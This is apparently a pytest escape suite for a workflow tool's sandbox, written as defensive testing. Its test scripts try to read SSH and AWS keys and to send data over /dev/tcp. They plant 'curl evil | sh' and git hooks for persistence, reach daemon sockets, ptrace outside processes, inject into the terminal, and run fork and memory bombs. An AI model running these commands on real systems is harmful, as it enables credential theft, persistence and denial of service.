"""Escape suite: scripts that try to do harm, run through `workflow run` in the real sandbox.

Each must fail to do harm, and the run must be recorded. The positives check that declared
permissions (network, writable paths) really work, so the negatives cannot pass by accident.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import pty
import shutil
import socket
import subprocess
import sys
import termios
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from conftest import Cli, ScriptMaker
from workflow_agent.execution import sandbox
from workflow_agent.execution.sandbox import Isolation, probe

WORKFLOW = [sys.executable, "-m", "workflow_agent"]

pytestmark = pytest.mark.skipif(
    probe().mode is not Isolation.BWRAP, reason=f"bubblewrap unusable here: {probe().reasons.get('bwrap')}"
)


def wf(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """Run the CLI. `run` goes past the static gate (--force and the typed name; --yes for asks):
    these tests prove the sandbox holds even when the first line of defence is overridden."""
    stdin = None
    if args[0] == "run":
        stdin = args[1] + "\n"
        args = (*args, "--force", "--yes")
    return subprocess.run(
        [*WORKFLOW, *args],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=env or dict(os.environ),
        input=stdin,
    )


def add(name: str, code: str, tmp_path: Path, permissions: str = "") -> None:
    path = tmp_path / f"{name}.sh"
    path.write_text(code)
    proc = wf("add", name, "--file", str(path))
    assert proc.returncode == 0, proc.stderr
    if permissions:
        config = Path(os.environ["WORKFLOW_HOME"]) / name / "config.yaml"
        text = config.read_text()
        start = text.index("permissions:")
        end = text.index("\n", text.index("max_processes:", start))
        config.write_text(text[:start] + "permissions:\n" + permissions + text[end + 1 :])


def last_run() -> dict[str, object]:
    proc = wf("history", "--json", "--limit", "1")
    rows: list[dict[str, object]] = json.loads(proc.stdout)
    assert rows, "every attempt must be recorded"
    return rows[0]


@contextlib.contextmanager
def serving(server: socket.socket) -> Iterator[list[bytes]]:
    """Accept connections on a bound ``server`` in a thread; yields what each one sent."""
    server.listen(5)
    server.settimeout(0.2)
    received: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    received.append(conn.recv(1024) or b"<connected>")
                except TimeoutError:
                    received.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield received
    finally:
        stop.set()
        thread.join(timeout=5)
        server.close()


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind(("127.0.0.1", 0))
    with serving(server) as received:
        yield server.getsockname()[1], received


@pytest.fixture
def unix_listener() -> Iterator[tuple[Path, list[bytes]]]:
    """A local daemon's socket outside /tmp (which is private in the sandbox), like /run/docker.sock."""
    folder = Path.home() / ".cache" / f"wf-sock-{os.getpid()}-{time.monotonic_ns()}"
    folder.mkdir(parents=True)
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(folder / "daemon.sock"))
    try:
        with serving(server) as received:
            yield folder / "daemon.sock", received
    finally:
        shutil.rmtree(folder, ignore_errors=True)


def unix_client(path: Path) -> str:
    """A script that proves in-process socket pairs work, then talks to the daemon at ``path``."""
    return (
        "set -e\npython3 - <<'EOF'\nimport asyncio, socket\n"
        "a, b = socket.socketpair()\na.sendall(b'x')\nprint('pair', b.recv(1).decode())\n"
        "asyncio.run(asyncio.sleep(0))\nprint('event loop ok')\n"
        f"s = socket.socket(socket.AF_UNIX)\ns.connect({str(path)!r})\ns.sendall(b'hello daemon')\n"
        "print('connected')\nEOF\n"
    )


def wait_for(received: list[bytes], seconds: float = 5) -> None:
    deadline = time.monotonic() + seconds
    while not received and time.monotonic() < deadline:
        time.sleep(0.05)


@pytest.fixture(params=["private-tmp", "read-only-root"])
def outside(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[Path]:
    """A real folder outside the work dir: under /tmp (private in the sandbox) or under $HOME (read-only)."""
    if request.param == "private-tmp":
        path = tmp_path / "outside"
        path.mkdir()
        yield path
        return
    path = Path.home() / ".cache" / f"workflow-escape-{os.getpid()}-{time.monotonic_ns()}"
    path.mkdir(parents=True)
    try:
        yield path
    finally:
        for child in path.iterdir():
            child.unlink()
        path.rmdir()


@pytest.fixture
def fake_home() -> Iterator[Path]:
    """A home folder outside /tmp (which is private in the sandbox), so masking is what hides secrets."""
    path = Path.home() / ".cache" / f"workflow-home-{os.getpid()}-{time.monotonic_ns()}"
    path.mkdir(parents=True)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def test_cannot_write_outside_the_work_dir(tmp_path: Path, workdir: Path, outside: Path) -> None:
    add("writer", f'set -e\necho inside > ./fine.txt\necho pwned > "{outside}/pwned.txt"\n', tmp_path)
    proc = wf("run", "writer")
    assert proc.returncode == 1
    assert (workdir / "fine.txt").read_text() == "inside\n"
    assert not (outside / "pwned.txt").exists()
    run = last_run()
    assert run["status"] == "failed"
    assert any(
        reason in str(run["stderr"])
        for reason in ("Read-only file system", "Permission denied", "No such file or directory")
    )
    assert run["sandbox"] == "bwrap"


def test_declared_write_path_is_writable(tmp_path: Path, workdir: Path) -> None:
    target = tmp_path / "exports"
    target.mkdir()
    add("exporter", f'set -e\necho data > "{target}/out.txt"\n', tmp_path, f"  write: ['{target}']\n")
    proc = wf("run", "exporter")
    assert proc.returncode == 0, proc.stderr
    assert (target / "out.txt").read_text() == "data\n"


def test_cannot_read_a_planted_ssh_key(tmp_path: Path, workdir: Path, fake_home: Path) -> None:
    home = fake_home
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nKEYMATERIAL123\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret_access_key = AWSSECRET456\n")
    (home / ".netrc").write_text("machine example.org password NETRCPW789\n")
    add("thief", "set -e\ncat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc\n", tmp_path)
    proc = wf("run", "thief", env={**os.environ, "HOME": str(home)})
    assert proc.returncode == 1
    for secret in ("KEYMATERIAL123", "AWSSECRET456", "NETRCPW789"):
        assert secret not in proc.stdout + proc.stderr
    run = last_run()
    assert run["status"] == "failed"
    assert "KEYMATERIAL123" not in json.dumps(run)


def test_running_from_the_home_folder_keeps_secrets_hidden(tmp_path: Path, fake_home: Path) -> None:
    home = fake_home
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("KEYMATERIAL123\n")
    (home / "notes.txt").write_text("my notes\n")
    add("homework", "cat notes.txt\necho done > ./out.txt\ncat ~/.ssh/id_rsa\n", tmp_path)
    proc = subprocess.run(
        [*WORKFLOW, "run", "homework", "--force", "--yes"], input="homework\n", capture_output=True, text=True,
        cwd=home, env={**os.environ, "HOME": str(home)}, timeout=120, check=False,
    )  # fmt: skip
    assert "my notes" in proc.stdout, proc.stderr
    assert (home / "out.txt").read_text() == "done\n", "the work dir (here: home) stays writable"
    assert "KEYMATERIAL123" not in proc.stdout + proc.stderr
    assert proc.returncode == 1


def test_start_up_files_and_repository_hooks_stay_read_only(tmp_path: Path, fake_home: Path) -> None:
    # Run from the home folder, which is also a repository: the work dir is writable, but code
    # that would run outside the sandbox later (at login, on the next git command) is not.
    home = fake_home
    (home / ".bashrc").write_text("# rc\n")
    (home / ".profile").write_text("# profile\n")
    (home / ".config" / "autostart").mkdir(parents=True)
    hooks = home / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (home / ".git" / "config").write_text("[core]\n")
    code = (
        "echo 'curl evil | sh' >> ~/.bashrc\n"
        "rm -f ~/.profile; mv ~/.profile ~/profile.bak\n"
        "echo '[core] fsmonitor = evil' >> .git/config\n"
        "printf '#!/bin/sh\\nevil\\n' > .git/hooks/post-checkout\n"
        "touch ~/.config/autostart/evil.desktop\n"
        "echo done > ./out.txt\n"
        "exit 0\n"
    )
    add("persist", code, tmp_path)
    proc = subprocess.run(
        [*WORKFLOW, "run", "persist", "--force", "--yes"], input="persist\n", capture_output=True, text=True,
        cwd=home, env={**os.environ, "HOME": str(home)}, timeout=120, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert (home / "out.txt").read_text() == "done\n", "the rest of the work dir stays writable"
    assert (home / ".bashrc").read_text() == "# rc\n"
    assert (home / ".profile").read_text() == "# profile\n"
    assert not (home / "profile.bak").exists()
    assert (home / ".git" / "config").read_text() == "[core]\n"
    assert list(hooks.iterdir()) == []
    assert list((home / ".config" / "autostart").iterdir()) == []
    assert "Read-only file system" in proc.stderr


@pytest.mark.parametrize("mode", ["bwrap", "landlock"])
def test_a_run_that_touches_start_up_files_says_so(tmp_path: Path, fake_home: Path, mode: str) -> None:
    # bwrap cannot protect a file that does not exist yet, and Landlock protects none: the run
    # must at least tell the person, and history keep it.
    if mode == "landlock" and not landlock_usable():
        pytest.skip("the kernel offers no Landlock/seccomp")
    home = fake_home
    (home / ".bashrc").write_text("# rc\n")
    code = "echo 'evil' > ~/.bash_profile\necho 'evil' >> ~/.bashrc || true\necho done > out.txt\n"
    add("sneaky", code, tmp_path)
    proc = subprocess.run(
        [*WORKFLOW, "run", "sneaky", "--force", "--yes", "--sandbox", mode], input="sneaky\n",
        capture_output=True, text=True, cwd=home, env={**os.environ, "HOME": str(home)}, timeout=120, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    changed = "changed ~/.bashrc" if mode == "landlock" else "created ~/.bash_profile"
    assert "created ~/.bash_profile" in proc.stderr
    assert changed in proc.stderr
    if mode == "bwrap":
        assert "changed ~/.bashrc" not in proc.stderr, "an existing one stayed read-only"
    assert changed in str(last_run()["error_message"])


def test_a_declared_write_path_inside_a_protected_folder_is_writable(tmp_path: Path, fake_home: Path) -> None:
    home = fake_home
    (home / ".local" / "bin").mkdir(parents=True)
    add(
        "installer",
        "printf '#!/bin/sh\\necho hi\\n' > ~/.local/bin/hello\n",
        tmp_path,
        f"  write: ['{home}/.local/bin']\n",
    )
    proc = subprocess.run(
        [*WORKFLOW, "run", "installer", "--force", "--yes"], input="installer\n", capture_output=True, text=True,
        cwd=home, env={**os.environ, "HOME": str(home)}, timeout=120, check=False,
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert (home / ".local" / "bin" / "hello").exists()


def test_declared_read_path_unmasks_only_itself(tmp_path: Path, workdir: Path, fake_home: Path) -> None:
    home = fake_home
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "known_hosts").write_text("example.org ssh-ed25519 AAAA\n")
    (home / ".ssh" / "id_rsa").write_text("KEYMATERIAL123\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("AWSSECRET456\n")
    add(
        "hosts",
        "cat ~/.ssh/known_hosts; cat ~/.ssh/id_rsa || true; cat ~/.aws/credentials || true\n",
        tmp_path,
        f"  read: ['{home}/.ssh/known_hosts']\n",
    )
    proc = wf("run", "hosts", env={**os.environ, "HOME": str(home)})
    assert "example.org ssh-ed25519" in proc.stdout
    assert "KEYMATERIAL123" not in proc.stdout, "a declared file does not un-hide its folder"
    assert "AWSSECRET456" not in proc.stdout


def test_no_network_unless_declared(tmp_path: Path, workdir: Path, listener: tuple[int, list[bytes]]) -> None:
    port, received = listener
    add("caller", f"set -e\nexec 3<>/dev/tcp/127.0.0.1/{port}\necho leaked >&3\n", tmp_path)
    proc = wf("run", "caller")
    assert proc.returncode == 1
    time.sleep(0.5)
    assert received == []
    assert last_run()["status"] == "failed"


def test_declared_network_reaches_the_listener(
    tmp_path: Path, workdir: Path, listener: tuple[int, list[bytes]]
) -> None:
    port, received = listener
    add(
        "caller",
        f"set -e\nexec 3<>/dev/tcp/127.0.0.1/{port}\necho hello >&3\n",
        tmp_path,
        "  network: true\n",
    )
    proc = wf("run", "caller")
    assert proc.returncode == 0, proc.stderr
    deadline = time.monotonic() + 5
    while not received and time.monotonic() < deadline:
        time.sleep(0.05)
    assert received == [b"hello\n"]


@pytest.mark.parametrize("network", [False, True])
def test_no_local_daemon_through_a_unix_socket_unless_declared(
    tmp_path: Path, workdir: Path, unix_listener: tuple[Path, list[bytes]], network: bool
) -> None:
    # A socket in the read-only root is reachable by path: docker.sock or the D-Bus session bus
    # would run anything outside the sandbox. Declaring network does not grant it.
    path, received = unix_listener
    add("daemon-caller", unix_client(path), tmp_path, f"  network: {str(network).lower()}\n")
    proc = wf("run", "daemon-caller")
    assert proc.returncode == 1
    assert "pair x" in proc.stdout
    assert "event loop ok" in proc.stdout, "socket pairs inside the sandbox still work"
    assert "connected" not in proc.stdout
    assert "Operation not permitted" in proc.stderr
    time.sleep(0.3)
    assert received == []
    assert last_run()["status"] == "failed"
    assert "unix_sockets" in proc.stderr, "the failure says which permission would allow it"


def test_declared_unix_sockets_reach_the_daemon(
    tmp_path: Path, workdir: Path, unix_listener: tuple[Path, list[bytes]]
) -> None:
    path, received = unix_listener
    add("daemon-caller", unix_client(path), tmp_path, "  unix_sockets: true\n")
    proc = wf("run", "daemon-caller")
    assert proc.returncode == 0, proc.stderr
    assert "connected" in proc.stdout
    wait_for(received)
    assert received == [b"hello daemon"]


@pytest.fixture
def host_fifo() -> Iterator[tuple[Path, list[bytes]]]:
    """A FIFO in the host's /run read by a host process, like systemd's /run/initctl."""
    if not os.access("/run", os.W_OK):
        pytest.skip("needs a writable /run (run as root) to plant a FIFO there")
    path = Path("/run") / f"workflow-test-{os.getpid()}-{time.monotonic_ns()}.fifo"
    os.mkfifo(path, 0o600)
    received: list[bytes] = []
    stop = threading.Event()

    def read() -> None:
        fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        try:
            while not stop.is_set():
                try:
                    data = os.read(fd, 1024)
                except BlockingIOError:
                    data = b""
                if data:
                    received.append(data)
                time.sleep(0.02)
        finally:
            os.close(fd)

    thread = threading.Thread(target=read, daemon=True)
    thread.start()
    try:
        yield path, received
    finally:
        stop.set()
        thread.join(timeout=5)
        path.unlink()


def test_host_run_folder_is_private(
    tmp_path: Path, workdir: Path, host_fifo: tuple[Path, list[bytes]]
) -> None:
    path, received = host_fifo
    code = f"test -p {path} && echo fifo-visible\necho 0 > {path}\nexit 0\n"
    add("initctl", code, tmp_path)
    proc = wf("run", "initctl")
    assert proc.returncode == 0, proc.stderr
    assert "fifo-visible" not in proc.stdout
    time.sleep(0.2)
    assert received == [], "the write went to the run's own /run"
    # Declaring unix sockets grants the host's daemons, and with them the host's /run.
    add("initctl-granted", code, tmp_path, "  unix_sockets: true\n")
    proc = wf("run", "initctl-granted")
    assert "fifo-visible" in proc.stdout
    deadline = time.monotonic() + 5
    while not received and time.monotonic() < deadline:
        time.sleep(0.05)
    assert received == [b"0\n"]


def test_resolver_config_linked_into_run_stays_readable(
    cli: Cli, script: ScriptMaker, workdir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # systemd-resolved machines link /etc/resolv.conf into /run: network workflows need it.
    if not os.access("/run", os.W_OK):
        pytest.skip("needs a writable /run (run as root) to plant the resolver file there")
    folder = Path("/run") / f"workflow-test-resolve-{os.getpid()}-{time.monotonic_ns()}"
    folder.mkdir()
    try:
        (folder / "stub-resolv.conf").write_text("nameserver 127.0.0.53\n")
        (folder / "other").write_text("not kept\n")
        link = tmp_path / "resolv.conf"
        link.symlink_to(folder / "stub-resolv.conf")
        monkeypatch.setattr(sandbox, "RESOLV_CONF", link)
        code = f"cat {folder}/stub-resolv.conf\ncat {folder}/other || echo other-hidden\n"
        assert cli("add", "resolver", "--file", str(script("r.sh", code))).exit_code == 0
        ran = cli("run", "resolver", "-q", "--json")
        assert ran.exit_code == 0, ran.stderr
        out = json.loads(ran.stdout)["stdout"]
        assert "nameserver 127.0.0.53" in out
        assert "other-hidden" in out
    finally:
        shutil.rmtree(folder)


def test_background_child_outliving_the_timeout_is_killed(tmp_path: Path, workdir: Path) -> None:
    add("lingerer", "(trap '' TERM HUP; exec sleep 1000.2727) &\nsleep 1000.2828\n", tmp_path)
    proc = wf("run", "lingerer", "--timeout", "1")
    assert proc.returncode == 1
    assert last_run()["status"] == "timeout"
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    assert "1000.2727" not in ps
    assert "1000.2828" not in ps


def test_cannot_remount_root_read_write(tmp_path: Path, workdir: Path) -> None:
    add("remount", "set -e\nmount -o remount,rw /\ntouch /etc/pwned-by-workflow\n", tmp_path)
    proc = wf("run", "remount")
    assert proc.returncode == 1
    assert not Path("/etc/pwned-by-workflow").exists()
    assert last_run()["status"] == "failed"


def test_cannot_ptrace_a_process_outside(tmp_path: Path, workdir: Path) -> None:
    victim = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        code = (
            "import ctypes, os, sys\n"
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            f"r = libc.ptrace(16, {victim.pid}, 0, 0)\n"  # PTRACE_ATTACH
            "print('ptrace', r, os.strerror(ctypes.get_errno()))\n"
            "sys.exit(0 if r == 0 else 1)\n"
        )
        add("tracer", f"python3 - <<'EOF'\n{code}EOF\n", tmp_path)
        proc = wf("run", "tracer")
        assert proc.returncode == 1
        assert "ptrace -1" in proc.stdout
        status = Path(f"/proc/{victim.pid}/status").read_text()
        assert "TracerPid:\t0" in status
    finally:
        victim.kill()
        victim.wait()


def test_cannot_inject_into_the_parent_terminal(tmp_path: Path, workdir: Path) -> None:
    code = (
        "import fcntl, os, sys, termios\n"
        "try:\n"
        "    fd = os.open('/dev/tty', os.O_RDWR)\n"
        "    for ch in b'echo pwned\\n':\n"
        "        fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))\n"
        "except OSError as exc:\n"
        "    print('blocked:', exc)\n"
        "    sys.exit(1)\n"
        "print('injected')\n"
    )
    add("injector", f"python3 - <<'EOF'\n{code}EOF\n", tmp_path)
    master, slave = pty.openpty()

    def controlling_terminal() -> None:
        os.setsid()
        fcntl.ioctl(slave, termios.TIOCSCTTY, 0)

    proc = subprocess.Popen(
        [*WORKFLOW, "run", "injector"],
        stdin=slave,
        stdout=slave,
        stderr=slave,
        preexec_fn=controlling_terminal,  # noqa: PLW1509 - the child must take the pty as its terminal
    )
    os.close(slave)
    output = b""
    deadline = time.monotonic() + 60
    while proc.poll() is None and time.monotonic() < deadline:
        try:
            output += os.read(master, 4096)
        except OSError:
            break
    proc.wait(timeout=30)
    os.close(master)
    assert proc.returncode == 1
    assert b"blocked:" in output
    assert b"injected" not in output
    assert last_run()["status"] == "failed"


def test_fork_bomb_is_contained_and_recorded(tmp_path: Path, workdir: Path) -> None:
    add("bomb", ":(){ :|:& };:\nsleep 3\n", tmp_path, "  max_processes: 64\n")
    began = time.monotonic()
    wf("run", "bomb", "--timeout", "20")
    assert time.monotonic() - began < 60
    run = last_run()
    assert run["status"] in ("success", "failed", "timeout")
    assert "Resource temporarily unavailable" in str(run["stderr"]), "the process limit was hit"
    ps = subprocess.run(["ps", "-eo", "comm"], capture_output=True, text=True, check=True).stdout
    assert ps.count("bash") < 20, "no bomb processes survive the run"


def test_memory_bomb_is_killed_and_classified_oom(tmp_path: Path, workdir: Path) -> None:
    code = "python3 -c 'blocks = []\nwhile True: blocks.append(bytearray(50 * 1024 * 1024))'\n"
    add("hog", code, tmp_path, "  memory_mb: 200\n")
    proc = wf("run", "hog", "--timeout", "60")
    assert proc.returncode == 1
    run = last_run()
    assert run["status"] == "failed"
    assert run["failure_class"] == "oom"


def landlock_usable() -> bool:
    from workflow_agent.execution.confine import landlock_abi, seccomp_available

    return landlock_abi() > 0 and seccomp_available()


@pytest.mark.skipif(not landlock_usable(), reason="the kernel offers no Landlock/seccomp")
def test_landlock_fallback_holds_files_network_and_secrets(
    tmp_path: Path, workdir: Path, listener: tuple[int, list[bytes]], unix_listener: tuple[Path, list[bytes]]
) -> None:
    port, received = listener
    sock, daemon_got = unix_listener
    home = tmp_path / "userhome"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("KEYMATERIAL123\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    code = (
        "echo inside > ./fine.txt\n"
        'echo scratch > "$TMPDIR/t" && echo tmp-ok\n'
        f'echo pwned > "{outside}/pwned.txt"\n'
        "cat ~/.ssh/id_rsa\n"
        f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo leaked >&3\n"
        f"python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"{sock}\")' && echo daemon-reached\n"
        "exit 0\n"
    )
    add("boxed", code, tmp_path)
    proc = wf("run", "boxed", "--sandbox", "landlock", env={**os.environ, "HOME": str(home)})
    assert proc.returncode == 0, proc.stderr
    assert "Landlock" in proc.stderr, "the fallback says so on every run"
    assert (workdir / "fine.txt").read_text() == "inside\n"
    assert "tmp-ok" in proc.stdout
    assert not (outside / "pwned.txt").exists()
    assert "KEYMATERIAL123" not in proc.stdout
    assert "daemon-reached" not in proc.stdout
    time.sleep(0.3)
    assert received == []
    assert daemon_got == []
    assert last_run()["sandbox"] == "landlock"


def test_sandbox_none_is_loud(tmp_path: Path, workdir: Path) -> None:
    add("plain", "echo hi\n", tmp_path)
    proc = wf("run", "plain", "--sandbox", "none")
    assert proc.returncode == 0
    assert "NONE" in proc.stderr
    assert last_run()["sandbox"] == "none"
